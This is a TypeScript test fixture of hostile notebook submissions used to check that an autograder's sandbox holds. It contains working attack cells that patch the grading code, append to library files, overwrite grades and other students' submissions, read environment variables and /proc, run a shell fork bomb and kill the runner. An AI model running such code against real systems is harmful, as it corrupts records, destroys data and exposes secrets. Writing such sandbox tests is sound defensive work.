/**
 * Hostile submissions of the grading fixture (fixtures/99-grading-fixture.ipynb), each built from
 * its student version, with the score each deserves: every attack of issue 20 and more, beside
 * honest submissions that must be unaffected. hostile.test.ts grades them all in one run.
 *
 * `Targets` are host paths an attacker would aim at (the kit's compiled library, the grades,
 * other submissions, the instructor notebook); in a sandbox none of them is even visible.
 */
import { Notebook, NotebookCell, cellSource } from '../../scripts/jupyter';
import { sourceLines } from '../../scripts/grading/format';
import { NAME } from './fixture';

export interface Targets {
  instructorNotebook: string;
  libCheck: string;
  gradingLibraryCheck: string;
  outDir: string;
  victims: string[];
  /** A string in the argv of every process an attack leaves running, to look for afterwards. */
  marker: string;
}

export interface Submission {
  name: string;
  what: string;
  /** Points per test (tests left out: 0). */
  expected: Record<string, number>;
  build(student: Notebook, instructor: Notebook, t: Targets): Notebook;
}

function copy(nb: Notebook): Notebook {
  return JSON.parse(JSON.stringify(nb));
}

function code(source: string, id: string): NotebookCell {
  return {
    cell_type: 'code',
    id,
    metadata: {},
    source: sourceLines(source),
    outputs: [],
    execution_count: null,
  };
}

/** Replaces the exercise cell that starts with `start` (or has id `start`). */
function setCell(nb: Notebook, start: string, source: string): void {
  const cell = nb.cells.find((c) => c.id === start || cellSource(c).startsWith(start));
  if (!cell) throw new Error(`no cell ${start}`);
  cell.source = sourceLines(source);
}

/** Inserts a code cell after the cell with id `after` (the import cell is 3c492060). */
function insert(nb: Notebook, after: string, source: string, id: string): void {
  const at = nb.cells.findIndex((c) => c.id === after);
  if (at < 0) throw new Error(`no cell ${after}`);
  nb.cells.splice(at + 1, 0, code(source, id));
}

const IMPORT = '3c492060';
const SQUARE = 'function square(x: number): number {\n  return x * x;\n}';
const ROW_SUMS = 'function rowSums(x: tf.Tensor2D): tf.Tensor1D {\n  return tf.sum(x, 1);\n}';
const stub = (n: number) => `throw grading.notImplemented('${NAME}-${n}');`;

const ZERO = {};

export const SUBMISSIONS: Submission[] = [
  {
    name: 'honest-instructor',
    what: "the instructor's own notebook: full marks",
    expected: {
      '99-square': 2,
      '99-square-negative': 1,
      '99-row-sums': 3,
      '99-gaussian-kl': 4,
      '99-softplus': 2,
      '99-descent': 1,
      '99-shape': 1,
    },
    build: (_s, instructor) => copy(instructor),
  },
  {
    name: 'honest-student',
    what: 'the student version as handed out: zero on every test, everything else runs',
    expected: ZERO,
    build: (student) => copy(student),
  },
  {
    name: 'tampered-partial',
    what:
      'right and wrong answers, a deleted test, an edited test, a fake 100-point test, a syntax ' +
      'error, an experiment outside its range and a wrong interpretation',
    expected: { '99-square': 2, '99-square-negative': 1, '99-row-sums': 3 },
    build: (student) => {
      const nb = copy(student);
      setCell(nb, 'function square', SQUARE);
      setCell(nb, 'function rowSums', ROW_SUMS);
      nb.cells.splice(
        nb.cells.findIndex((c) => c.id === '42453585'),
        1,
      );
      // Forgets the mean term.
      setCell(
        nb,
        'function gaussianKl',
        'function gaussianKl(mu1: number, sigma1: number, mu2: number, sigma2: number): number ' +
          '{\n  return Math.log(sigma2 / sigma1) + sigma1 ** 2 / (2 * sigma2 ** 2) - 0.5;\n}',
      );
      setCell(nb, '542eafc1', "// Test 99-gaussian-kl (4 points)\nconsole.log('passes');");
      setCell(
        nb,
        'function softplus',
        'function softplus(x: number): number {\n  return Math.max(x, 0) +;\n}',
      );
      setCell(nb, 'e5b2c0de', 'const learningRate = 0.01;');
      setCell(nb, 'e6b2c0de', "const shapeAnswer = 'a';");
      nb.cells.push({
        ...code('// Test 99-bonus (100 points)\nconsole.log("free points");', 'bonus'),
        metadata: { genlab: { test: { id: '99-bonus', points: 100 } } },
      });
      return nb;
    },
  },
  {
    name: 'attack-patch-check',
    what:
      "issue 20's first attack: replace grading.check (and every function of the kit's grading " +
      'modules, Math, JSON and tensor reads) inside the kernel, all exercises unsolved',
    expected: ZERO,
    build: (student) => {
      const nb = copy(student);
      insert(
        nb,
        IMPORT,
        [
          "const kitDir = require.resolve('genlab').replace(/index\\.js$/, '');",
          "require(kitDir + 'grading/check.js').check = () => {};",
          "for (const name of ['check', 'judge', 'session', 'records', 'wire', 'values']) {",
          "  const mod: any = require(kitDir + 'grading/' + name + '.js');",
          '  for (const key of Object.keys(mod)) {',
          '    try {',
          "      if (typeof mod[key] === 'function') mod[key] = () => true;",
          '    } catch {',
          '      // a locked property',
          '    }',
          '  }',
          '}',
          '(grading as any).check = () => {};',
          'Math.abs = () => 0;',
          'Number.isFinite = () => true;',
          '(tf.Tensor.prototype as any).dataSync = function () {',
          '  return new Float32Array(this.size);',
          '};',
          "console.log('patched');",
        ].join('\n'),
        'attack1',
      );
      return nb;
    },
  },
  {
    name: 'attack-persistent',
    what:
      "issue 20's second attack: append `exports.check = function () {}` to the kit's compiled " +
      'grading code (in the sandbox and at its host paths), and write the kernelspec, the ' +
      'runner and the native kernels',
    expected: ZERO,
    build: (student, _i, t) => {
      const nb = copy(student);
      const targets = [
        "require.resolve('genlab').replace(/index\\.js$/, 'grading/check.js')",
        JSON.stringify(t.libCheck),
        JSON.stringify(t.gradingLibraryCheck),
        "'/kit/lib/dist/grading/judge.js'",
        "'/kit/lib/dist/grading/new.js'",
        "'/kit/grader/jupyter/kernels/tslab/kernel.json'",
        "'/kit/grader/run_cells.py'",
        "'/kit/node_modules/.bin/tslab'",
        "'/kit/native/build/genlab_native.node'",
      ];
      insert(
        nb,
        IMPORT,
        [
          "import * as fs from 'fs';",
          `for (const target of [${targets.join(', ')}]) {`,
          '  try {',
          "    fs.appendFileSync(target, '\\nexports.check = function () {};\\n');",
          "    console.log('WROTE ' + target);",
          '  } catch (error) {',
          "    console.log('blocked ' + target + ': ' + (error as Error).message);",
          '  }',
          '}',
        ].join('\n'),
        'attack2',
      );
      return nb;
    },
  },
  {
    name: 'attack-detached',
    what:
      "issue 20's third attack: a detached child that outlives the kernel, waits, then " +
      'rewrites the grades and another submission',
    expected: ZERO,
    build: (student, _i, t) => {
      const nb = copy(student);
      const victims = [`${t.outDir}/totals.csv`, `${t.outDir}/scores.json`, ...t.victims];
      const script =
        `sleep 45; for f in ${victims.join(' ')}; do echo hacked > "$f"; done; ` + `: ${t.marker}`;
      insert(
        nb,
        IMPORT,
        [
          "import { spawn } from 'child_process';",
          `const child = spawn('sh', ['-c', ${JSON.stringify(script)}], {`,
          '  detached: true,',
          "  stdio: 'ignore',",
          '});',
          'child.unref();',
          "console.log('spawned ' + child.pid);",
        ].join('\n'),
        'attack3',
      );
      return nb;
    },
  },
  {
    name: 'attack-read-solutions',
    what:
      "issue 20's fourth attack: find the instructor's notebook (and any solutions, hidden " +
      'tests or reference results anywhere in view) to copy the solutions; also read /proc, ' +
      'the environment (for the seed) and the network',
    expected: ZERO,
    build: (student, _i, t) => {
      const nb = copy(student);
      insert(
        nb,
        IMPORT,
        [
          "import * as fs from 'fs';",
          "import * as path from 'path';",
          'const found: string[] = [];',
          'const look = (file: string) => {',
          '  try {',
          "    const text = fs.readFileSync(file, 'utf8');",
          '    // Spelled in parts: this very cell (in the notebook being run) is no match.',
          "    const solution = text.includes('BEGIN ' + 'SOLUTION');",
          "    if (solution || text.includes('\"expect' + 'ed\"')) found.push(file);",
          '  } catch {',
          '    // not readable',
          '  }',
          '};',
          'const walk = (dir: string, depth: number) => {',
          "  if (depth > 8 || ['/proc', '/sys', '/dev', '/usr'].includes(dir)) return;",
          '  let entries: fs.Dirent[] = [];',
          '  try {',
          '    entries = fs.readdirSync(dir, { withFileTypes: true });',
          '  } catch {',
          '    return;',
          '  }',
          '  for (const e of entries) {',
          '    const p = path.join(dir, e.name);',
          '    if (e.isDirectory()) walk(p, depth + 1);',
          "    else if (/\\.(ipynb|jsonl|json)$/.test(e.name) && !p.includes('node_modules'))",
          '      look(p);',
          '  }',
          '};',
          `look(${JSON.stringify(t.instructorNotebook)});`,
          `look('../notebooks/${NAME}.ipynb');`,
          "walk('/', 0);",
          "let proc = '';",
          "for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)))",
          "  for (const f of ['cmdline', 'environ'])",
          '    try {',
          "      const text = fs.readFileSync('/proc/' + pid + '/' + f, 'latin1');",
          "      proc += text.replace(/\\0/g, ' ') + '\\n';",
          '    } catch {',
          '      // not readable',
          '    }',
          "console.log('found solutions: ' + found.length + ' ' + found.join(' '));",
          "console.log('environment: ' + JSON.stringify(process.env));",
          "console.log('processes: ' + proc);",
          'const copied = found.length > 0;',
        ].join('\n'),
        'attack4',
      );
      insert(
        nb,
        'attack4',
        [
          "const net = require('net');",
          'const network = await new Promise<string>((resolve) => {',
          "  const socket = net.connect(80, '93.184.215.14');",
          "  socket.on('connect', () => resolve('CONNECTED'));",
          "  socket.on('error', (e: Error) => resolve('no network: ' + e.message));",
          "  setTimeout(() => resolve('no network: timeout'), 5000);",
          '});',
          'console.log(network);',
        ].join('\n'),
        'attack4b',
      );
      setCell(
        nb,
        'function square',
        `function square(x: number): number {\n  if (copied) return x * x;\n  ${stub(1)}\n}`,
      );
      return nb;
    },
  },
  {
    name: 'attack-other-submissions',
    what:
      "issue 20's fifth attack: edit one submission and delete another (host paths, and " +
      'whatever /proc shows)',
    expected: ZERO,
    build: (student, _i, t) => {
      const nb = copy(student);
      insert(
        nb,
        IMPORT,
        [
          "import * as fs from 'fs';",
          `const victims: string[] = ${JSON.stringify(t.victims)};`,
          "for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)))",
          '  try {',
          "    const args = fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').split('\\0');",
          "    victims.push(...args.filter((a) => a.endsWith('.ipynb')));",
          '  } catch {',
          '    // gone',
          '  }',
          'const [edit, ...remove] = victims;',
          'try {',
          "  fs.writeFileSync(edit, '{}');",
          "  console.log('EDITED ' + edit);",
          '} catch (error) {',
          "  console.log('blocked: ' + (error as Error).message);",
          '}',
          'for (const file of remove)',
          '  try {',
          '    fs.unlinkSync(file);',
          "    console.log('DELETED ' + file);",
          '  } catch (error) {',
          "    console.log('blocked: ' + (error as Error).message);",
          '  }',
        ].join('\n'),
        'attack5',
      );
      return nb;
    },
  },
  {
    name: 'attack-resources',
    what:
      'square solved, then an infinite loop, 8 GB of memory, 100 MB of output, a disk filled, ' +
      'and a fork bomb: each stopped by its limit, the rest graded',
    expected: { '99-square': 2, '99-square-negative': 1 },
    build: (student, _i, t) => {
      const nb = copy(student);
      setCell(nb, 'function square', SQUARE);
      setCell(
        nb,
        'function rowSums',
        'function rowSums(x: tf.Tensor2D): tf.Tensor1D {\n' +
          '  while (x) {}\n' +
          '  return tf.sum(x, 1);\n' +
          '}',
      );
      const after = '9379e2ab';
      insert(
        nb,
        after,
        [
          'const hoard: ArrayBuffer[] = [];',
          'try {',
          '  for (let i = 0; i < 32; i++) hoard.push(new ArrayBuffer(256 * 2 ** 20));',
          "  console.log('MEMORY ' + hoard.length / 4 + ' GB');",
          '} catch (error) {',
          '  const why = (error as Error).message;',
          "  console.log('memory limit after ' + hoard.length * 256 + ' MB: ' + why);",
          '}',
          'hoard.length = 0;',
        ].join('\n'),
        'bomb-memory',
      );
      insert(nb, 'bomb-memory', "console.log('x'.repeat(100 * 2 ** 20));", 'bomb-output');
      insert(
        nb,
        'bomb-output',
        [
          "import * as fs from 'fs';",
          'const chunk = Buffer.alloc(16 * 2 ** 20, 1);',
          'let written = 0;',
          'try {',
          "  const fd = fs.openSync('/tmp/fill', 'w');",
          '  for (let i = 0; i < 256; i++) {',
          '    fs.writeSync(fd, chunk);',
          '    written += 16;',
          '  }',
          "  console.log('DISK ' + written + ' MB');",
          '} catch (error) {',
          '  const code = (error as NodeJS.ErrnoException).code;',
          "  console.log('disk limit after ' + written + ' MB: ' + code);",
          '}',
          "fs.rmSync('/tmp/fill', { force: true });",
        ].join('\n'),
        'bomb-disk',
      );
      nb.cells.push(
        code(
          [
            "import { spawn } from 'child_process';",
            `const bomb = spawn('sh', ['-c', 'f() { f | f & }; f; : ${t.marker}'], {`,
            '  detached: true,',
            "  stdio: 'ignore',",
            '});',
            'bomb.unref();',
            'await new Promise((resolve) => setTimeout(resolve, 3000));',
            "const pids = require('fs')",
            "  .readdirSync('/proc')",
            '  .filter((p: string) => /^\\d+$/.test(p));',
            "console.log('processes: ' + pids.length);",
          ].join('\n'),
          'bomb-fork',
        ),
      );
      return nb;
    },
  },
  {
    name: 'attack-seed-guess',
    what:
      "precomputed answers: the test's inputs as the notebook's public seed (0) or a seed from " +
      'the clock would draw them, tabulated; the grader draws from a secret seed',
    expected: ZERO,
    build: (student) => {
      const nb = copy(student);
      insert(
        nb,
        IMPORT,
        [
          'const table = new Map<number, number>();',
          'const seeds = [0, 1, 42];',
          'for (let s = Date.now() - 5000; s < Date.now() + 5000; s += 1000)',
          '  seeds.push(Math.floor(s / 1000));',
          'for (const s of seeds) {',
          '  runtime.seed(s);',
          '  for (let i = 0; i < 400; i++) {',
          '    const x = runtime.randn();',
          '    table.set(x, x * x);',
          '  }',
          '}',
          'runtime.seed(0);',
        ].join('\n'),
        'attack6',
      );
      setCell(
        nb,
        'function square',
        'function square(x: number): number {\n  return table.get(x) ?? -1;\n}',
      );
      return nb;
    },
  },
  {
    name: 'attack-forbidden',
    what:
      'square and rowSums solved; the Gaussian KL answered with the library function the ' +
      'exercise forbids, taken under another name before any test ran',
    expected: { '99-square': 2, '99-square-negative': 1, '99-row-sums': 3 },
    build: (student) => {
      const nb = copy(student);
      setCell(nb, 'function square', SQUARE);
      setCell(nb, 'function rowSums', ROW_SUMS);
      insert(
        nb,
        IMPORT,
        [
          "const lib: any = require('genlab');",
          "const { kl: divergence, Normal: Gauss } = lib['distri' + 'butions'];",
        ].join('\n'),
        'attack7',
      );
      setCell(
        nb,
        'function gaussianKl',
        'function gaussianKl(mu1: number, sigma1: number, mu2: number, sigma2: number): number ' +
          '{\n' +
          '  const kl = divergence(new Gauss(mu1, sigma1), new Gauss(mu2, sigma2));\n' +
          '  return kl.dataSync()[0];\n' +
          '}',
      );
      return nb;
    },
  },
  {
    name: 'attack-kill-runner',
    what:
      "square solved, then the kernel tries to forge the runner's results and kills it: the " +
      'submission spoils only its own grade',
    expected: ZERO,
    build: (student) => {
      const nb = copy(student);
      setCell(nb, 'function square', SQUARE);
      insert(
        nb,
        '42453585',
        [
          "import * as fs from 'fs';",
          'const fake = \'{"notebook": {"cells": []}, "output": ""}\';',
          'for (const fd of [3, 4, 5])',
          '  try {',
          "    fs.writeFileSync('/proc/' + process.ppid + '/fd/' + fd, fake);",
          "    console.log('forged through fd ' + fd);",
          '  } catch (error) {',
          "    console.log('cannot forge: ' + (error as Error).message);",
          '  }',
          "process.kill(process.ppid, 'SIGKILL');",
        ].join('\n'),
        'attack8',
      );
      return nb;
    },
  },
];
